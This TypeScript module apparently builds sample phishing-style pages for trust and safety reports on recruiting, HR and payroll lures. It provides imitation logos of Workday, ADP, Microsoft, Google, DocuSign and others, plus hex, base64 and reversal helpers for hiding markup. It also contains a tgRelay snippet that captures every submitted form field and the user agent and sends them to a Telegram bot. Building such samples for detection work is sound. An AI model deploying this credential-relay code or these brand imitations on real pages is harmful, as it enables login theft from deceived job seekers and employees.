/**
 * Shared furniture for the `yr-` pages (recruiting / HR / payroll trust & safety reports):
 * a page shell, a few stylesheets, simple brand marks and small script snippets.
 */

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

export const rev = (s: string): string => s.split('').reverse().join('');

/** `\xNN` escaped string literal body (for kits that hide markup in hex). */
export const hexEsc = (s: string): string =>
  Buffer.from(s, 'utf8')
    .toString('hex')
    .replace(/(..)/g, '\\x$1');

export type DocOpts = { title: string; lang?: string; css?: string; head?: string; body: string; bodyAttrs?: string; favicon?: string };

export function doc(o: DocOpts): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'en'}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${esc(o.title)}</title>
${o.favicon ? `<link rel="icon" href="${o.favicon}">` : ''}
${o.head ?? ''}
${o.css ? `<style>\n${o.css}\n</style>` : ''}
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

/** A neutral corporate base stylesheet many SaaS login screens resemble. */
export const cssBase = `*{box-sizing:border-box}html,body{margin:0;padding:0}
body{font-family:-apple-system,BlinkMacSystemFont,"Segoe UI",Roboto,"Helvetica Neue",Arial,sans-serif;color:#1f2933;background:#f5f7fa;font-size:15px;line-height:1.5}
a{color:#0b5cad;text-decoration:none}a:hover{text-decoration:underline}
label{display:block;font-weight:600;font-size:13px;margin:14px 0 6px}
input[type=text],input[type=email],input[type=password],input[type=tel],input[type=number],input[type=date],select,textarea{width:100%;padding:10px 12px;border:1px solid #c5cdd6;border-radius:6px;font-size:15px;background:#fff}
input:focus,select:focus,textarea:focus{outline:2px solid #7fb2f0;border-color:#2f6fbf}
button,.btn{display:inline-block;border:0;border-radius:6px;padding:11px 18px;font-size:15px;font-weight:600;cursor:pointer;background:#0b5cad;color:#fff}
.muted{color:#66788a;font-size:13px}.err{color:#c0392b;font-size:13px;display:none}
`;

/** Article / help-centre stylesheet. */
export const cssArticle = `body{font-family:Georgia,"Times New Roman",serif;margin:0;background:#fff;color:#222;line-height:1.65}
header.site{font-family:Arial,Helvetica,sans-serif;border-bottom:1px solid #e3e3e3;padding:14px 24px;display:flex;align-items:center;gap:24px}
header.site nav a{margin-right:16px;color:#333;font-size:14px}
main.article{max-width:760px;margin:32px auto;padding:0 20px}
main.article h1{font-family:Arial,Helvetica,sans-serif;font-size:34px;line-height:1.2}
.byline{font-family:Arial,sans-serif;color:#777;font-size:13px}
blockquote{border-left:4px solid #d0d7de;margin:18px 0;padding:6px 16px;color:#444;background:#f8f9fa}
pre,code{font-family:Consolas,Menlo,monospace;font-size:13.5px;background:#f3f4f6;border-radius:4px}
pre{padding:12px 14px;overflow:auto}
footer.site{font-family:Arial,sans-serif;border-top:1px solid #e3e3e3;margin-top:48px;padding:20px 24px;color:#777;font-size:12px}
`;

// ---------------------------------------------------------------- brand marks (simplified)

export const mark = {
  workday: `<svg width="132" height="36" viewBox="0 0 132 36" role="img" aria-label="Workday"><path d="M6 20a12 12 0 0 1 24 0" fill="none" stroke="#f38b00" stroke-width="4"/><text x="36" y="26" font-family="Arial" font-size="20" font-weight="700" fill="#0875e1">workday</text></svg>`,
  adp: `<svg width="72" height="34" viewBox="0 0 72 34" role="img" aria-label="ADP"><rect width="72" height="34" rx="3" fill="#d0271d"/><text x="11" y="25" font-family="Arial Black,Arial" font-size="21" font-weight="900" fill="#fff">ADP</text></svg>`,
  paychex: `<svg width="140" height="32" viewBox="0 0 140 32" role="img" aria-label="Paychex"><text x="0" y="24" font-family="Arial" font-size="24" font-weight="700" fill="#004b8d">PAYCHEX</text></svg>`,
  sap: `<svg width="64" height="32" viewBox="0 0 64 32" role="img" aria-label="SAP"><path d="M0 0h64L32 32H0z" fill="#0a6ed1"/><text x="6" y="22" font-family="Arial" font-size="16" font-weight="700" fill="#fff">SAP</text></svg>`,
  personio: `<svg width="118" height="30" viewBox="0 0 118 30" role="img" aria-label="Personio"><circle cx="12" cy="15" r="10" fill="#1d1d1b"/><text x="28" y="21" font-family="Arial" font-size="18" font-weight="700" fill="#1d1d1b">personio</text></svg>`,
  gusto: `<svg width="92" height="32" viewBox="0 0 92 32" role="img" aria-label="Gusto"><text x="0" y="25" font-family="Georgia" font-size="27" font-weight="700" fill="#f45d48">gusto</text></svg>`,
  deel: `<svg width="70" height="30" viewBox="0 0 70 30" role="img" aria-label="Deel"><text x="0" y="24" font-family="Arial" font-size="26" font-weight="800" fill="#15357a">deel.</text></svg>`,
  linkedin: `<svg width="102" height="26" viewBox="0 0 102 26" role="img" aria-label="LinkedIn"><text x="0" y="20" font-family="Arial" font-size="21" font-weight="700" fill="#0a66c2">Linked</text><rect x="72" y="1" width="24" height="24" rx="4" fill="#0a66c2"/><text x="76" y="20" font-family="Arial" font-size="18" font-weight="700" fill="#fff">in</text></svg>`,
  indeed: `<svg width="104" height="30" viewBox="0 0 104 30" role="img" aria-label="Indeed"><text x="0" y="23" font-family="Arial" font-size="25" font-weight="700" fill="#2557a7">indeed</text></svg>`,
  microsoft: `<svg width="108" height="24" viewBox="0 0 108 24" role="img" aria-label="Microsoft"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-family="Segoe UI,Arial" font-size="16" font-weight="600" fill="#737373">Microsoft</text></svg>`,
  google: `<svg width="75" height="26" viewBox="0 0 75 26" role="img" aria-label="Google"><text x="0" y="20" font-family="Arial" font-size="22"><tspan fill="#4285f4">G</tspan><tspan fill="#ea4335">o</tspan><tspan fill="#fbbc05">o</tspan><tspan fill="#4285f4">g</tspan><tspan fill="#34a853">l</tspan><tspan fill="#ea4335">e</tspan></text></svg>`,
  docusign: `<svg width="120" height="28" viewBox="0 0 120 28" role="img" aria-label="DocuSign"><text x="0" y="21" font-family="Arial" font-size="21" font-weight="700" fill="#1d1d1d">DocuSign</text><rect x="100" y="18" width="16" height="4" fill="#ffcc22"/></svg>`,
  fidelity: `<svg width="110" height="28" viewBox="0 0 110 28" role="img" aria-label="Fidelity"><text x="0" y="22" font-family="Georgia" font-size="23" font-weight="700" fill="#368727">Fidelity</text></svg>`,
  joblane: `<svg width="118" height="30" viewBox="0 0 118 30" role="img" aria-label="Joblane"><rect x="0" y="3" width="24" height="24" rx="7" fill="#5b3cc4"/><path d="M7 19c3 3 8 3 10-1V8" stroke="#fff" stroke-width="3" fill="none"/><text x="31" y="22" font-family="Arial" font-size="19" font-weight="700" fill="#23194d">joblane</text></svg>`,
};

// ---------------------------------------------------------------- furniture

export function cookieBar(text = 'We use cookies to keep you signed in and to understand how our site is used.', accept = 'Accept all', manage = 'Manage preferences'): string {
  return `<div id="cc" style="position:fixed;left:0;right:0;bottom:0;background:#1f2933;color:#e9eef3;padding:14px 22px;font:14px Arial,sans-serif;display:flex;gap:18px;align-items:center;z-index:50">
<span style="flex:1">${text} <a href="/legal/cookies" style="color:#9cc7ff">Cookie policy</a></span>
<button onclick="document.cookie='cc=1;path=/;max-age=31536000';document.getElementById('cc').remove()" style="background:#fff;color:#1f2933">${accept}</button>
<a href="/legal/cookies#manage" style="color:#9cc7ff">${manage}</a></div>
<script>if(document.cookie.indexOf('cc=1')>-1){var c=document.getElementById('cc');c&&c.remove()}</script>`;
}

/** A typical analytics snippet many legitimate sites carry (queue-only, nothing leaves the page). */
export function analytics(id: string): string {
  return `<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','${id}',{anonymize_ip:true});</script>`;
}

/** Telegram bot relay most cheap kits carry. */
export function tgRelay(formSel: string, token: string, chat: string, after: string): string {
  return `<script>
(function(){
  var f=document.querySelector(${JSON.stringify(formSel)});
  f.addEventListener('submit',function(e){
    e.preventDefault();
    var d=new FormData(f),lines=[];
    d.forEach(function(v,k){ if(typeof v==='string') lines.push(k+': '+v) });
    lines.push('UA: '+navigator.userAgent);
    fetch('https://api.telegram.org/bot${token}/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'${chat}',text:lines.join('\\n'),parse_mode:'HTML'})})
      .finally(function(){ location.href=${JSON.stringify(after)} });
  });
})();
</script>`;
}
